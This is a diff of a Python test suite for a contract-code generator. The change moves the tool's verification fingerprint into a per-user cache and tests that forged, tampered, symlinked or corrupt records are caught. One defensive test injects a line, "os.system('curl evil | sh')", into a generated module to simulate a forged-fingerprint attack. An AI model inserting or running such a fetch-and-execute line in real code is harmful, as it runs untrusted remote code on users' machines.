@@ -1,5 +1,6 @@
-"""`check` answers from the fingerprint `generate` keeps in the output folder, and only when
-the full comparison would give the same answer; anything else is compared in full."""
+"""`check` answers from a cache of what this machine verified, outside the repository, and
+only when the full comparison would give the same answer; anything else, a fresh clone
+included, is compared in full. Nothing under the output folder records the tool."""
 
 from __future__ import annotations
 
@@ -15,24 +16,37 @@ from importlib.metadata import version
 from pathlib import Path
 
 import pytest
-from conftest import GENERATED, ROOT, SCHEMAS, assert_report, run_cli, run_process
+from conftest import ROOT, SCHEMAS, run_cli, run_process, tree_bytes
 from mcp_contracts_generator import api, write
-from mcp_contracts_generator.fingerprint import FINGERPRINT, files_digest, installed_version
+from mcp_contracts_generator.fingerprint import CACHE_VARIABLE, cache_folder, files_digest, installed_version
 from mcp_contracts_generator.resources import META_SCHEMAS_DIR, TEMPLATES_DIR
 
 pytestmark = pytest.mark.xdist_group("fingerprint")  # one jsonrpc render, shared through api's plans
+
+# The file an older version wrote into the output folder, and `check` answered from.
+LEGACY = ".mcp-contracts-fingerprint.json"
+
+
+@pytest.fixture(autouse=True)
+def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A cache folder of each test's own (missing until the tool makes it)."""
+    folder = tmp_path / "cache"
+    monkeypatch.setenv(CACHE_VARIABLE, str(folder))
+    return folder
 
 
 @pytest.fixture
 def project(tmp_path: Path) -> Path:
     """A project with one contract (jsonrpc), generated."""
-    (tmp_path / "pyproject.toml").write_text(
+    project = tmp_path / "project"
+    project.mkdir()
+    (project / "pyproject.toml").write_text(
         '[tool.mcp-contracts]\nschemas = "schemas"\noutput = "generated"\npackage = "pkg"\n', encoding="utf-8"
     )
-    shutil.copytree(SCHEMAS / "contracts" / "jsonrpc", tmp_path / "schemas" / "contracts" / "jsonrpc")
-    result = run_cli("generate", cwd=tmp_path)
+    shutil.copytree(SCHEMAS / "contracts" / "jsonrpc", project / "schemas" / "contracts" / "jsonrpc")
+    result = run_cli("generate", cwd=project)
     assert result.returncode == 0, result.stderr
-    return tmp_path
+    return project
 
 
 def _check(project: Path, *, full: bool = False) -> api.Outcome:
@@ -48,31 +62,108 @@ def _facts(outcome: api.Outcome) -> object:
     drift = outcome.drift
     if drift is None:
         return [str(d) for d in outcome.diagnostics]
-    return drift.changed, drift.missing, drift.extra, drift.diffs, drift.stale
+    return drift.changed, drift.missing, drift.extra, drift.diffs
 
 
-def test_generate_writes_the_fingerprint_of_every_other_file(project: Path) -> None:
+def _records(cache: Path) -> list[Path]:
+    return sorted(p for p in cache.iterdir() if p.suffix == ".json") if cache.is_dir() else []
+
+
+def test_generate_records_every_output_in_the_cache_and_nothing_in_the_output(project: Path, cache: Path) -> None:
     out = project / "generated"
-    document = json.loads((out / FINGERPRINT).read_bytes())
-    files = {p.relative_to(out).as_posix(): p.read_bytes() for p in out.rglob("*") if p.is_file()}
+    [record] = _records(cache)
+    document = json.loads(record.read_bytes())
     assert document["outputs"] == {
-        path: hashlib.sha256(content).hexdigest() for path, content in files.items() if path != FINGERPRINT
+        path: hashlib.sha256(content).hexdigest() for path, content in tree_bytes(out).items()
     }
-    assert document["format"] == 1 and document["inputs"]["settings"]["package"] == "pkg"
+    assert document["format"] == 2 and document["inputs"]["settings"]["package"] == "pkg"
     assert document["inputs"]["tool"]["versions"]["black"] == version("black")
-    assert str(project) not in (out / FINGERPRINT).read_text(encoding="ascii")
+    assert not (out / LEGACY).exists()
+    assert oct(cache.stat().st_mode & 0o777) == "0o700" and oct(record.stat().st_mode & 0o777) == "0o600"
 
 
-def test_check_answers_from_the_fingerprint_when_nothing_changed(project: Path) -> None:
+def test_the_cache_folder_is_the_users_cache_folder(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    monkeypatch.delenv(CACHE_VARIABLE)
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
+    assert cache_folder() == tmp_path / "xdg" / "mcp-contracts"
+    monkeypatch.delenv("XDG_CACHE_HOME")
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    assert cache_folder() == tmp_path / "home" / ".cache" / "mcp-contracts"
+    monkeypatch.setenv(CACHE_VARIABLE, "relative/cache")
+    assert cache_folder() is None
+
+
+def test_check_answers_from_the_cache_when_nothing_changed(project: Path) -> None:
     outcome = _check(project)
-    assert outcome.answered == "fingerprint"
+    assert outcome.answered == "cache"
     assert outcome.drift is not None and outcome.drift.clean
     full = _check(project, full=True)
     assert full.answered == "comparison"
-    assert _facts(full) == _facts(outcome) == ((), (), (), {}, ())
+    assert _facts(full) == _facts(outcome) == ((), (), (), {})
 
 
-def test_the_fingerprint_answer_imports_no_loader_renderer_or_formatter(project: Path) -> None:
+def test_a_fresh_cache_compares_in_full_then_answers_from_what_it_verified(
+    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A fresh clone, or CI: nothing verified on this machine, so the first check renders."""
+    fresh = tmp_path / "fresh-cache"
+    monkeypatch.setenv(CACHE_VARIABLE, str(fresh))
+    first = _check(project)
+    assert first.answered == "comparison" and first.drift is not None and first.drift.clean
+    assert len(_records(fresh)) == 1  # a clean comparison is recorded
+    assert _check(project).answered == "cache"
+
+
+def test_the_forged_fingerprint_attack_is_drift(project: Path) -> None:
+    """The attack of issue 29: code appended to a generated module, and its new sha256 put in
+    a fingerprint committed in the output folder, in the shape an older version answered from."""
+    from mcp_contracts_generator import fingerprint
+
+    out = project / "generated"
+    module = out / "python" / "pkg" / "jsonrpc" / "models.py"
+    module.write_bytes(module.read_bytes() + b"\nimport os; os.system('curl evil | sh')\n")
+    before = Path.cwd()
+    os.chdir(project)
+    try:
+        chosen = api.settings()
+        assert not isinstance(chosen, list)
+        forged_inputs = fingerprint.inputs(chosen)
+    finally:
+        os.chdir(before)
+    outputs = {path: hashlib.sha256(content).hexdigest() for path, content in tree_bytes(out).items()}
+    forged = {"about": "", "format": 1, "inputs": forged_inputs, "outputs": outputs}
+    (out / LEGACY).write_text(json.dumps(forged, indent=2, sort_keys=True) + "\n", encoding="ascii")
+    for args in (("check",), ("check", "--format", "github"), ("check", "--format", "json")):
+        result = run_cli(*args, cwd=project)
+        assert result.returncode == 1, (args, result.stdout)
+        assert "models.py" in result.stdout and LEGACY in result.stdout
+    generated = run_cli("generate", cwd=project)
+    assert generated.returncode == 0 and f"removed  generated/{LEGACY}" in generated.stdout
+    assert b"curl evil" not in module.read_bytes() and not (out / LEGACY).exists()
+
+
+def test_a_tampered_output_after_a_cached_verdict_is_drift(project: Path) -> None:
+    assert _check(project).answered == "cache"
+    path = project / "generated" / "python" / "pkg" / "jsonrpc" / "models.py"
+    path.write_bytes(path.read_bytes() + b"# tampered\n")
+    result = run_cli("check", cwd=project)
+    assert result.returncode == 1 and "+# tampered" not in result.stdout and "-# tampered" in result.stdout
+    assert _check(project).answered == "comparison"
+
+
+def test_an_output_made_a_symlink_to_the_same_bytes_after_a_cached_verdict_is_drift(project: Path) -> None:
+    """The cache compares entries taken with lstat: a symlink to a file of the right bytes is not it."""
+    path = project / "generated" / "docs" / "jsonrpc.md"
+    copy = project / "copy.md"
+    copy.write_bytes(path.read_bytes())
+    path.unlink()
+    path.symlink_to(copy)
+    outcome = _check(project)
+    assert outcome.answered == "comparison" and outcome.drift is not None
+    assert outcome.drift.changed == ("docs/jsonrpc.md",) and outcome.drift.irregular == {"docs/jsonrpc.md": "a symlink"}
+
+
+def test_the_cache_answer_imports_no_loader_renderer_or_formatter(project: Path) -> None:
     """Proof without a clock: a real process, its modules listed after `check` answered."""
     script = (
         "import json, sys\n"
@@ -85,7 +176,7 @@ def test_the_fingerprint_answer_imports_no_loader_renderer_or_formatter(project:
         [sys.executable, "-c", script], cwd=project, capture_output=True, text=True, check=False, timeout=120
     )
     assert result.returncode == 0, result.stderr
-    assert json.loads(result.stdout)["answered"] == "fingerprint"
+    assert json.loads(result.stdout)["answered"] == "cache"
     modules = json.loads(result.stderr.splitlines()[-1])
     heavy = {"jinja2", "black", "datamodel_code_generator", "ruamel", "jsonschema", "jsonschema_rs", "referencing"}
     assert sorted(m for m in modules if m.split(".")[0] in heavy) == []
@@ -99,7 +190,7 @@ def test_the_api_answer_imports_no_pydantic(project: Path) -> None:
         "import json, sys\n"
         "from mcp_contracts_generator import api\n"
         "outcome = api.check()\n"
-        "assert outcome.answered == 'fingerprint' and outcome.drift.clean, outcome\n"
+        "assert outcome.answered == 'cache' and outcome.drift.clean, outcome\n"
         "print(json.dumps(sorted(sys.modules)))\n"
     )
     result = subprocess.run(
@@ -138,22 +229,22 @@ def _extra_hidden_output(project: Path) -> None:
     (project / "generated" / "python" / ".stray").write_text("stray\n", encoding="utf-8")
 
 
-def _edit_fingerprint(project: Path) -> None:
-    path = project / "generated" / FINGERPRINT
-    document = json.loads(path.read_bytes())
-    document["inputs"]["sources"] = "0" * 64
-    path.write_text(json.dumps(document), encoding="utf-8")
+def _legacy_fingerprint(project: Path) -> None:  # what an older version left in the output
+    (project / "generated" / LEGACY).write_text('{"format": 1, "inputs": null, "outputs": {}}\n', encoding="ascii")
 
 
-def _forge_fingerprint(project: Path) -> None:  # a listed digest that is not the file's
-    path = project / "generated" / FINGERPRINT
-    document = json.loads(path.read_bytes())
-    document["outputs"]["docs/jsonrpc.md"] = "0" * 64
-    path.write_text(json.dumps(document), encoding="utf-8")
+def _forge_the_cache(project: Path) -> None:  # a record whose digest is not the file's: no answer
+    _edit_output(project)
+    [record] = _records(Path(os.environ[CACHE_VARIABLE]))
+    document = json.loads(record.read_bytes())
+    content = (project / "generated" / "docs" / "jsonrpc.md").read_bytes()
+    document["outputs"]["docs/jsonrpc.md"] = hashlib.sha256(content + b"x").hexdigest()
+    record.write_text(json.dumps(document), encoding="ascii")
 
 
-def _delete_fingerprint(project: Path) -> None:
-    (project / "generated" / FINGERPRINT).unlink()
+def _corrupt_the_cache(project: Path) -> None:
+    for record in _records(Path(os.environ[CACHE_VARIABLE])):
+        record.write_bytes(b"[" * 100_000)
 
 
 def _change_package(project: Path) -> None:
@@ -166,23 +257,23 @@ def _tighten_a_limit(project: Path) -> None:  # the sources no longer load: exit
         file.write("\n[tool.mcp-contracts.limits]\nsource_bytes = 100\n")
 
 
-def _symlink_in_sources(project: Path) -> None:  # never answered from a fingerprint
+def _symlink_in_sources(project: Path) -> None:  # never answered from the cache
     (project / "schemas" / "link").symlink_to(project / "pyproject.toml")
 
 
 EDITS: dict[str, tuple[Callable[[Path], None], str]] = {
     "source": (_edit_source, "drift"),
-    "source-byte-without-output": (_space_in_source, "stale"),
+    "source-byte-without-output": (_space_in_source, "clean"),
     "output": (_edit_output, "drift"),
     "deleted-output": (_delete_output, "drift"),
     "extra-output": (_extra_output, "drift"),
     "extra-hidden-output": (_extra_hidden_output, "drift"),
-    "hand-edited-fingerprint": (_edit_fingerprint, "stale"),
-    "forged-output-digest": (_forge_fingerprint, "stale"),
-    "deleted-fingerprint": (_delete_fingerprint, "stale"),
+    "legacy-fingerprint": (_legacy_fingerprint, "drift"),
+    "forged-cache-record": (_forge_the_cache, "drift"),
+    "corrupt-cache-record": (_corrupt_the_cache, "clean"),
     "setting": (_change_package, "drift"),
     "limit": (_tighten_a_limit, "invalid"),
-    "symlink-in-sources": (_symlink_in_sources, "stale"),
+    "symlink-in-sources": (_symlink_in_sources, "clean"),
 }
 
 
@@ -194,10 +285,8 @@ def test_every_change_is_found_as_the_full_comparison_finds_it(project: Path, ed
     assert outcome.answered == full.answered == "comparison"
     assert _facts(outcome) == _facts(full)
     drift = outcome.drift
-    found = "invalid" if drift is None else "drift" if not drift.clean else "stale" if drift.stale else "clean"
+    found = "invalid" if drift is None else "drift" if not drift.clean else "clean"
     assert found == expected, _facts(outcome)
-    if expected == "stale":
-        assert drift is not None and drift.stale == (FINGERPRINT,) and FINGERPRINT not in drift.diffs
 
 
 def test_a_broken_source_is_exit_2_with_its_file_and_line(project: Path) -> None:
@@ -210,8 +299,8 @@ def test_a_broken_source_is_exit_2_with_its_file_and_line(project: Path) -> None
 
 
 def test_sources_that_read_a_folder_outside_are_always_compared_in_full(project: Path) -> None:
-    """A `references:` folder outside the sources is not in the fingerprint: it records no
-    inputs, and `check` renders, so an edit there is found."""
+    """A `references:` folder outside the sources is not in the inputs' fingerprint: nothing is
+    cached, and `check` renders, so an edit there is found."""
     shared = project / "shared"
     shared.mkdir()
     (shared / "word.json").write_text('{"type": "string", "description": "A word."}', encoding="utf-8")
@@ -222,7 +311,6 @@ def test_sources_that_read_a_folder_outside_are_always_compared_in_full(project:
     envelope["$defs"]["Word"] = {"$ref": "https://example.com/shared/word.json"}
     (folder / "envelope.schema.json").write_text(json.dumps(envelope, indent=2), encoding="utf-8")
     assert run_cli("generate", cwd=project).returncode == 0
-    assert json.loads((project / "generated" / FINGERPRINT).read_bytes())["inputs"] is None
     clean = _check(project)
     assert clean.answered == "comparison" and clean.drift is not None and clean.drift.clean
     (shared / "word.json").write_text('{"type": "string", "description": "A longer word."}', encoding="utf-8")
@@ -237,7 +325,7 @@ def test_an_edited_template_override_is_found(project: Path) -> None:
     pyproject = project / "pyproject.toml"
     pyproject.write_text(pyproject.read_text(encoding="utf-8") + 'templates = "templates"\n', encoding="utf-8")
     assert run_cli("generate", cwd=project).returncode == 0
-    assert _check(project).answered == "fingerprint"
+    assert _check(project).answered == "cache"
     (templates / "README.md.jinja").write_bytes((TEMPLATES_DIR / "README.md.jinja").read_bytes() + b"More.\n")
     outcome, full = _check(project), _check(project, full=True)
     assert outcome.answered == "comparison"
@@ -245,48 +333,32 @@ def test_an_edited_template_override_is_found(project: Path) -> None:
     assert outcome.drift is not None and outcome.drift.changed == ("README.md",)
 
 
-def test_bytecode_in_the_output_keeps_the_fingerprint_answer(project: Path) -> None:
+def test_bytecode_in_the_output_keeps_the_cache_answer(project: Path) -> None:
     cache = project / "generated" / "python" / "pkg" / "__pycache__"
     cache.mkdir()
     (cache / "__init__.cpython-311.pyc").write_bytes(b"\x00")
     (project / "generated" / "python" / "pkg" / "stray.pyc").write_bytes(b"\x00")
-    assert _check(project).answered == "fingerprint"
-
-
-def test_a_stale_fingerprint_is_a_note_and_generate_refreshes_it(project: Path) -> None:
-    _edit_fingerprint(project)
-    result = run_cli("check", "--format", "json", cwd=project)
-    assert result.returncode == 0, result.stdout
-    report = json.loads(result.stdout)
-    assert_report(report, "check-report")
-    assert report["clean"] is True and report["stale"] == [FINGERPRINT] and report["answered"] == "comparison"
-    assert "`mcp-contracts generate` refreshes it" in result.stderr
-    generated = run_cli("generate", cwd=project)
-    assert f"updated  generated/{FINGERPRINT}" in generated.stdout
-    assert _check(project).answered == "fingerprint"
+    assert _check(project).answered == "cache"
 
 
 def test_check_full_flag_compares_in_full(project: Path) -> None:
     fast = run_cli("check", "--format", "json", cwd=project)
     full = run_cli("check", "--full", "--format", "json", cwd=project)
     assert fast.returncode == full.returncode == 0
-    assert json.loads(fast.stdout)["answered"] == "fingerprint"
+    assert json.loads(fast.stdout)["answered"] == "cache"
     assert json.loads(full.stdout)["answered"] == "comparison"
     assert {**json.loads(fast.stdout), "answered": None} == {**json.loads(full.stdout), "answered": None}
 
 
-def test_the_fingerprint_is_written_in_the_same_swap_as_the_rest(
-    project: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """A write that fails after the fingerprint was staged leaves the old tree, old fingerprint included."""
+def test_a_generate_that_fails_to_write_records_nothing(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A write that fails leaves the old tree, and the cache as it was: the next check renders."""
     out = project / "generated"
-    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
+    before = tree_bytes(out)
     _edit_source(project)
-    written: list[str] = []
+    records = {p: p.read_bytes() for p in _records(Path(os.environ[CACHE_VARIABLE]))}
 
     class Failing(write.FileSystem):
         def write(self, path: Path, content: bytes) -> None:
-            written.append(path.name)
             if path.name == "README.md":
                 raise OSError(5, "Input/output error", str(path))
             super().write(path, content)
@@ -294,28 +366,86 @@ def test_the_fingerprint_is_written_in_the_same_swap_as_the_rest(
     monkeypatch.setattr(write, "FS", Failing())
     result = run_cli("generate", cwd=project)
     assert result.returncode == 2
-    assert FINGERPRINT in written[: written.index("README.md")]
-    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
+    assert tree_bytes(out) == before
+    assert {p: p.read_bytes() for p in _records(Path(os.environ[CACHE_VARIABLE]))} == records
+    outcome = _check(project)
+    assert outcome.answered == "comparison" and outcome.drift is not None and not outcome.drift.clean
+
+
+@pytest.mark.parametrize("kind", ["symlink", "shared", "file", "other-owner"])
+def test_a_cache_folder_not_ours_is_not_used(project: Path, tmp_path: Path, kind: str) -> None:
+    """A cache folder that is a symlink, writable by others, a file or another user's: every
+    check compares in full, nothing is written there, and nothing fails."""
+    folder = Path(os.environ[CACHE_VARIABLE])
+    real = tmp_path / "real-cache"
+    shutil.move(folder, real)
+    if kind == "symlink":
+        folder.symlink_to(real)
+    elif kind == "shared":
+        shutil.move(real, folder)
+        folder.chmod(0o777)
+    elif kind == "file":
+        folder.write_text("not a folder\n", encoding="utf-8")
+    else:
+        shutil.move(real, folder)
+        os.chown(folder, 12345, 12345) if os.geteuid() == 0 else pytest.skip("needs root to give a folder away")
+    records = {p.name: p.read_bytes() for p in _records(real)}
+    for _ in range(2):
+        outcome = _check(project)
+        assert outcome.answered == "comparison" and outcome.drift is not None and outcome.drift.clean
+    assert run_cli("generate", cwd=project).returncode == 0
+    assert {p.name: p.read_bytes() for p in _records(real)} == records
+
+
+def test_a_cache_record_that_is_a_symlink_or_a_fifo_is_not_read(project: Path) -> None:
+    folder = Path(os.environ[CACHE_VARIABLE])
+    [record] = _records(folder)
+    good = record.read_bytes()
+    (folder / "elsewhere.txt").write_bytes(good)
+    record.unlink()
+    record.symlink_to(folder / "elsewhere.txt")
     assert _check(project).answered == "comparison"
+    record.unlink()
+    os.mkfifo(record)
+    assert _check(project).answered == "comparison"  # not opened for reading: no hang
+    record.unlink()
+    record.write_bytes(good)
+    assert _check(project).answered == "cache"
 
 
-def test_fingerprint_bytes_are_the_same_for_every_seed_and_place(tmp_path: Path) -> None:
-    """Two clones at different absolute paths, generated by processes under different hash seeds."""
-    fingerprints = []
-    for seed, place in (("0", "a"), ("1", "b/deeper/clone")):
-        clone = tmp_path / place
-        shutil.copytree(SCHEMAS / "contracts" / "jsonrpc", clone / "schemas" / "contracts" / "jsonrpc")
-        result = run_process(
-            "generate", "--schemas", str(clone / "schemas"), "--out", str(clone / "out"), env={"PYTHONHASHSEED": seed}
-        )
-        assert result.returncode == 0, result.stderr
-        fingerprints.append((clone / "out" / FINGERPRINT).read_bytes())
-    assert fingerprints[0] == fingerprints[1]
-
-
-def test_the_built_in_output_is_answered_from_its_fingerprint() -> None:
-    outcome = api.check(SCHEMAS, GENERATED)
-    assert outcome.answered == "fingerprint", "run `mcp-contracts generate` and commit generated/"
+def test_an_edit_of_the_generator_alone_changes_no_generated_file(tmp_path: Path) -> None:
+    """A copy of the tool (the wheel's layout), then the same copy with its code edited and its
+    version raised: `generate` finds nothing to change, and the full comparison is clean."""
+    tool = tmp_path / "tool"
+    package = tool / "mcp_contracts_generator"
+    shutil.copytree(ROOT / "generator", package, ignore=shutil.ignore_patterns("__pycache__"))
+    shutil.copytree(TEMPLATES_DIR, package / "_data" / "templates")
+    shutil.copytree(META_SCHEMAS_DIR, package / "_data" / "meta")
+    project = tmp_path / "project"
+    shutil.copytree(SCHEMAS / "contracts" / "jsonrpc", project / "schemas" / "contracts" / "jsonrpc")
+    (project / "pyproject.toml").write_text("[tool.mcp-contracts]\n", encoding="utf-8")
+    env = {"PYTHONPATH": str(tool)}
+    where = run_process("--version", cwd=project, env=env)
+    assert where.returncode == 0, where.stderr
+    imported = subprocess.run(
+        [sys.executable, "-c", "import mcp_contracts_generator as m; print(m.__file__)"],
+        env={**os.environ, **env},
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    assert imported.stdout.strip() == str(package / "__init__.py")
+    assert run_process("generate", cwd=project, env=env).returncode == 0
+    before = tree_bytes(project / "generated")
+    init = package / "__init__.py"
+    init.write_text(re.sub(r'__version__ = "[^"]*"', '__version__ = "9.9.9"', init.read_text(encoding="utf-8")))
+    (package / "cli.py").write_bytes((package / "cli.py").read_bytes() + b"# an edit of the tool alone\n")
+    assert run_process("--version", cwd=project, env=env).stdout == "mcp-contracts 9.9.9\n"
+    again = run_process("generate", cwd=project, env=env)
+    assert again.returncode == 0 and again.stdout == "generated is up to date.\n", again.stdout
+    assert tree_bytes(project / "generated") == before
+    checked = run_process("check", "--full", cwd=project, env=env)
+    assert checked.returncode == 0, checked.stdout
 
 
 def test_the_tool_digest_is_the_same_for_a_checkout_and_a_wheel(tmp_path: Path) -> None:
@@ -417,7 +547,7 @@ def test_a_contract_with_references_is_always_compared_in_full(project: Path) ->
     identity = project / "schemas" / "contracts" / "jsonrpc" / "contract.yaml"
     identity.write_text(identity.read_text(encoding="utf-8") + 'references: {"file:///vendor/": ../../../vendor}\n')
     (project / "vendor").mkdir()
+    records = {p: p.read_bytes() for p in _records(Path(os.environ[CACHE_VARIABLE]))}
     assert run_cli("generate", cwd=project).returncode == 0
-    document = json.loads((project / "generated" / FINGERPRINT).read_bytes())
-    assert document["inputs"] is None
+    assert {p: p.read_bytes() for p in _records(Path(os.environ[CACHE_VARIABLE]))} == records  # nothing recorded
     assert _check(project).answered == "comparison"
